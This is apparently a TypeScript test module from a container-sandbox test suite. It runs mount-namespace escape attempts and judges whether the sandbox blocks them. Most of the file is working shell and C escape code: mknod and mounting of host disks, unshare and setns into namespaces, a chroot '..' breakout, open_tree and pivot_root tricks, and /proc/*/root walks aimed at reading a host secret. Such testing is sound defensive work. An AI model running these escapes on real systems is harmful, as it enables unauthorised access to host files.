/**
 * Mount namespace escapes: getting at a filesystem outside the container's root (a host block
 * device mounted by node or label, a namespace joined through /proc, a chroot or pivot_root
 * undone, a mount cloned with the new mount API, an unmounted root uncovering what lies below).
 * The workload is told where the host secret lives (SECRET_PATH, a host path that does not exist
 * inside any container) and tries to read it: the secret showing up, or the secret's host
 * directory becoming visible, is an escape. A mount or namespace call that succeeds on the
 * host's own kernel shows CAP_SYS_ADMIN was not dropped and counts too; one that succeeds only
 * in a microVM's guest kernel (a different boot id) does not.
 */
import { blocked, escaped, excerpt, leaksSecret, ranToEnd, report, trialError } from '../framework.js';
import type { Attempt, RunOutput, Trial, Verdict } from '../framework.js';
import { attachLoop, C_PRELUDE, detachLoop, hostRootDevice, onHostKernel, setEnv, whichKernel } from './device.js';
import type { HostLoop } from './device.js';

/** Tells the workload where the host secret and its directory are (host paths). */
function pointAtSecret(t: Trial): void {
  setEnv(t, 'SECRET_PATH', t.secretFile);
  setEnv(t, 'HOSTDIR', t.hostDir);
}

/**
 * A judge: the secret read, or the host directory seen (`HOSTDIR_VISIBLE=1`), is an escape; so
 * is any of `privileged` reported as 1 on the host's kernel (CAP_SYS_ADMIN kept).
 */
function judgeEscape(what: string, privileged: string[], why: (r: Map<string, string>) => string) {
  return (t: Trial, out: RunOutput): Verdict => {
    const r = report(out);
    if (leaksSecret(t, out)) return escaped(`${what}: the host secret came out`);
    if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
    if (r.get('HOSTDIR_VISIBLE') === '1') return escaped(`${what}: the host directory ${t.hostDir} is visible`);
    const ok = privileged.filter((k) => r.get(k) === '1');
    if (ok.length && onHostKernel(t, r.get('BOOT'))) return escaped(`${what}: ${ok.join(', ')} succeeded on the host kernel (CAP_SYS_ADMIN kept)`);
    if (ok.length) return blocked(`${ok.join(', ')} succeeded only in ${whichKernel(t, r.get('BOOT'))}; the host stayed out of reach`);
    return blocked(why(r));
  };
}

/** C: prints the host secret if `path` can be read, and whether the host directory is visible. */
const C_LOOK = `
__attribute__((unused)) static void look(const char *prefix) {
  char p[4096];
  snprintf(p, sizeof p, "%s%s", prefix, env("SECRET_PATH"));
  if (readLine("READ", p)) printf("READ_VIA=%s\\n", prefix[0] ? prefix : "/");
  struct stat st;
  snprintf(p, sizeof p, "%s%s", prefix, env("HOSTDIR"));
  if (env("HOSTDIR")[0] && stat(p, &st) == 0) printf("HOSTDIR_VISIBLE=1\\n");
}
`;

const BOOT = 'echo BOOT=$(cat /proc/sys/kernel/random/boot_id 2>/dev/null)';

let loop: HostLoop | undefined;

/** The attempts of this category. */
export const attempts: Attempt[] = [
  {
    id: 'mnt-host-disk',
    category: 'mount-namespace',
    title: 'mounts a host filesystem: the host\'s root disk and a host disk holding the secret, by device node, by label and via /proc/1/root',
    shows: 'no host block device can be made or mounted (no CAP_MKNOD, no CAP_SYS_ADMIN)',
    sh: `${BOOT}; mkdir -p /dev/hostfs
mknod /dev/hostdisk b $LOOP_MAJ $LOOP_MIN 2>/dev/null && echo MKNOD=1
[ -n "$ROOT_MAJ" ] && mknod /dev/hostroot b $ROOT_MAJ $ROOT_MIN 2>/dev/null && echo MKNOD_ROOT=1
for src in /dev/hostdisk "LABEL=$LOOP_LABEL" /proc/1/root/dev/hostdisk /dev/hostroot; do
  if out=$(mount -o ro "$src" /dev/hostfs 2>&1); then echo MOUNTED=1; echo "MOUNTED_SRC=$src"; cat /dev/hostfs/host-secret /dev/hostfs$SECRET_PATH 2>/dev/null; umount /dev/hostfs
  else echo "ERR=$src: $out"; fi
done
echo DONE=1`,
    setup: (t) => {
      pointAtSecret(t);
      loop = attachLoop(t, true);
      setEnv(t, 'LOOP_MAJ', loop.major);
      setEnv(t, 'LOOP_MIN', loop.minor);
      setEnv(t, 'LOOP_LABEL', loop.label ?? '');
      const root = hostRootDevice();
      if (root) {
        setEnv(t, 'ROOT_MAJ', root.major);
        setEnv(t, 'ROOT_MIN', root.minor);
      }
    },
    judge: (t, out) => {
      detachLoop(loop);
      loop = undefined;
      return judgeEscape('mounted a host filesystem', ['MOUNTED'], (r) => `mknod ${r.get('MKNOD') === '1' ? 'worked' : 'refused'}; ${r.get('ERR') ?? 'mount refused'}`)(t, out);
    },
  },
  {
    id: 'mnt-unshare-userns',
    category: 'mount-namespace',
    title: 'unshares a user namespace (root mapped) to regain full capabilities there, then mounts a tmpfs',
    shows: 'no new user or mount namespace can be made (seccomp refuses unshare/clone with namespace flags)',
    sh: `${BOOT}
out=$(unshare -U -r -m sh -c 'echo USERNS=1; mkdir -p /dev/u && mount -t tmpfs none /dev/u && echo INNER_MOUNT=1; grep CapEff /proc/self/status' 2>&1); echo "$out"
[ -z "\${out##*USERNS=1*}" ] || echo "ERR=$out"
out=$(unshare -m sh -c 'echo MNTNS=1' 2>&1); echo "$out"
echo DONE=1`,
    judge: judgeEscape('made a namespace on the host kernel', ['USERNS', 'MNTNS', 'INNER_MOUNT'], (r) => `unshare refused: ${r.get('ERR') ?? '?'}`),
  },
  {
    id: 'mnt-setns-proc',
    category: 'mount-namespace',
    title: 'joins every namespace reachable through /proc/*/ns (setns, as nsenter does), then looks for the host secret',
    shows: 'setns is refused and every visible process shares the container\'s own namespaces',
    c: `${C_PRELUDE}${C_LOOK}
int main(void) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  boot();
  const char *ns[] = {"mnt", "pid", "net", "user", "uts", "ipc", "cgroup", "time", NULL};
  struct stat own[8];
  char p[512];
  for (int i = 0; ns[i]; i++) {
    snprintf(p, sizeof p, "/proc/self/ns/%s", ns[i]);
    if (stat(p, &own[i]) != 0) own[i].st_ino = 0;
  }
  int opened = 0, foreign = 0, joined = 0, joinedForeign = 0, lastErr = 0;
  DIR *d = opendir("/proc");
  struct dirent *e;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    for (int i = 0; ns[i]; i++) {
      snprintf(p, sizeof p, "/proc/%s/ns/%s", e->d_name, ns[i]);
      int fd = open(p, O_RDONLY);
      if (fd < 0) continue;
      opened++;
      struct stat st;
      int diff = fstat(fd, &st) == 0 && own[i].st_ino != 0 && (st.st_ino != own[i].st_ino || st.st_dev != own[i].st_dev);
      if (diff) { foreign++; printf("FOREIGN_NS=%s/%s\\n", e->d_name, ns[i]); }
      if (syscall(SYS_setns, fd, 0) == 0) { joined++; if (diff) joinedForeign++; }
      else lastErr = errno;
      close(fd);
    }
  }
  if (d) closedir(d);
  printf("OPENED=%d\\nFOREIGN=%d\\nJOINED=%d\\n", opened, foreign, joined);
  if (joinedForeign) printf("JOINED_FOREIGN=1\\n");
  if (joined) printf("SETNS=1\\n");
  if (lastErr) printf("SETNS_ERR=%s\\n", strerror(lastErr));
  look("");
  printf("DONE=1\\n");
  return 0;
}
`,
    setup: pointAtSecret,
    judge: judgeEscape('joined another namespace', ['JOINED_FOREIGN', 'SETNS'], (r) =>
      `opened ${r.get('OPENED') ?? '0'} ns files, ${r.get('FOREIGN') ?? '0'} foreign; setns: ${r.get('SETNS_ERR') ?? 'none tried'}`),
  },
  {
    id: 'mnt-chroot-breakout',
    category: 'mount-namespace',
    title: 'the classic chroot escape: chroot into a subdirectory, walk ".." from the old cwd, chroot(".")',
    shows: 'chroot is refused (no CAP_SYS_CHROOT), and ".." from the root stays at the pivoted root',
    c: `${C_PRELUDE}${C_LOOK}
int main(void) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  boot();
  mkdir("/dev/jail", 0755);
  int root = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/dev/jail") == 0) {
    printf("CHROOT=1\\n");
    if (fchdir(root) != 0) err("FCHDIR_ERR");
  } else err("CHROOT_ERR");
  for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
  if (chroot(".") == 0) printf("CHROOT_DOT=1\\n"); else err("CHROOT_DOT_ERR");
  char cwd[4096];
  if (getcwd(cwd, sizeof cwd)) printf("CWD=%s\\n", cwd);
  look("");
  /* relative too: the cwd may be outside the root even where chroot(".") failed */
  char rel[4096];
  snprintf(rel, sizeof rel, ".%s", env("SECRET_PATH"));
  if (readLine("READ", rel)) printf("READ_VIA=cwd\\n");
  printf("DONE=1\\n");
  return 0;
}
`,
    setup: pointAtSecret,
    judge: judgeEscape('broke out of the chroot', [], (r) => `chroot: ${r.get('CHROOT_ERR') ?? 'worked, but the walk stayed inside'}; cwd ${r.get('CWD') ?? '?'}`),
  },
  {
    id: 'mnt-open-tree',
    category: 'mount-namespace',
    title: 'clones the root mount with open_tree(OPEN_TREE_CLONE) and attaches it with move_mount; makes a mount with fsopen/fsmount',
    shows: 'the new mount API is refused (seccomp, no CAP_SYS_ADMIN)',
    c: `${C_PRELUDE}${C_LOOK}
int main(void) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  boot();
  mkdir("/dev/tree", 0755);
  mkdir("/dev/fsm", 0755);
  int t = syscall(428 /* open_tree */, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */ | 0x8000 /* AT_RECURSIVE */ | O_CLOEXEC);
  if (t >= 0) {
    printf("OPEN_TREE=1\\n");
    if (syscall(429 /* move_mount */, t, "", AT_FDCWD, "/dev/tree", 4 /* MOVE_MOUNT_F_EMPTY_PATH */) == 0) printf("MOVE_MOUNT=1\\n"); else err("MOVE_MOUNT_ERR");
  } else err("OPEN_TREE_ERR");
  int fs = syscall(430 /* fsopen */, "tmpfs", 1 /* FSOPEN_CLOEXEC */);
  if (fs >= 0) {
    printf("FSOPEN=1\\n");
    if (syscall(431 /* fsconfig */, fs, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) == 0) {
      int m = syscall(432 /* fsmount */, fs, 1 /* FSMOUNT_CLOEXEC */, 0);
      if (m >= 0) { printf("FSMOUNT=1\\n"); syscall(429, m, "", AT_FDCWD, "/dev/fsm", 4); } else err("FSMOUNT_ERR");
    } else err("FSCONFIG_ERR");
  } else err("FSOPEN_ERR");
  look("");
  look("/dev/tree");
  printf("DONE=1\\n");
  return 0;
}
`,
    setup: pointAtSecret,
    judge: judgeEscape('used the new mount API', ['OPEN_TREE', 'MOVE_MOUNT', 'FSOPEN', 'FSMOUNT'], (r) =>
      `open_tree: ${r.get('OPEN_TREE_ERR') ?? '?'}; fsopen: ${r.get('FSOPEN_ERR') ?? '?'}`),
  },
  {
    id: 'mnt-pivot-old-root',
    category: 'mount-namespace',
    title: 'looks for the runtime\'s old root (left-over put_old directories), lazily unmounts / to uncover it, and pivots back',
    shows: 'the old root was detached by the runtime; umount and pivot_root are refused',
    c: `${C_PRELUDE}${C_LOOK}
int main(void) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  boot();
  const char *old[] = {"/.oldroot", "/oldroot", "/old_root", "/.pivot_root", "/.old", "/put_old", NULL};
  for (int i = 0; old[i]; i++) {
    struct stat st;
    if (stat(old[i], &st) == 0) { printf("OLDROOT=%s\\n", old[i]); look(old[i]); }
  }
  DIR *d = opendir("/");
  struct dirent *e;
  while (d && (e = readdir(d))) if (strncmp(e->d_name, ".pivot_root", 11) == 0) printf("OLDROOT=/%s\\n", e->d_name);
  if (d) closedir(d);
  /* pivot back: make the old root reachable again as put_old under a new root */
  mkdir("/dev/old", 0755);
  if (syscall(SYS_pivot_root, "/dev", "/dev/old") == 0) { printf("PIVOT=1\\n"); look("/old"); look(""); }
  else err("PIVOT_ERR");
  if (umount2("/", MNT_DETACH) == 0) { printf("UMOUNT_ROOT=1\\n"); if (chdir("/") == 0) look(""); }
  else err("UMOUNT_ERR");
  look("");
  printf("DONE=1\\n");
  return 0;
}
`,
    setup: pointAtSecret,
    judge: judgeEscape('reached the old root', ['PIVOT', 'UMOUNT_ROOT'], (r) =>
      `pivot_root: ${r.get('PIVOT_ERR') ?? '?'}; umount /: ${r.get('UMOUNT_ERR') ?? '?'}${r.get('OLDROOT') ? `; found ${r.get('OLDROOT')} but nothing of the host in it` : ''}`),
  },
  {
    id: 'mnt-proc-root',
    category: 'mount-namespace',
    title: 'walks /proc/*/root and /proc/*/cwd of every visible process (and ".." past them) to the host secret',
    shows: 'every process\'s root link leads back into the container\'s own root',
    sh: `${BOOT}
for p in /proc/[0-9]* /proc/self /proc/thread-self; do for via in root cwd; do
  cat "$p/$via$SECRET_PATH" 2>/dev/null && echo "READ_VIA=$p/$via"
  cat "$p/$via/../../../..$SECRET_PATH" 2>/dev/null && echo "READ_VIA=$p/$via/.."
  [ -e "$p/$via/../../../..$HOSTDIR" ] && echo HOSTDIR_VISIBLE=1 && echo "HOSTDIR_VIA=$p/$via"
done; done
echo LOOKED=$(ls -d /proc/[0-9]*/root 2>/dev/null | wc -l)
echo DONE=1`,
    setup: pointAtSecret,
    judge: judgeEscape('followed a /proc root link out', [], (r) => `${r.get('LOOKED') ?? '0'} root links, all inside the container`),
  },
];
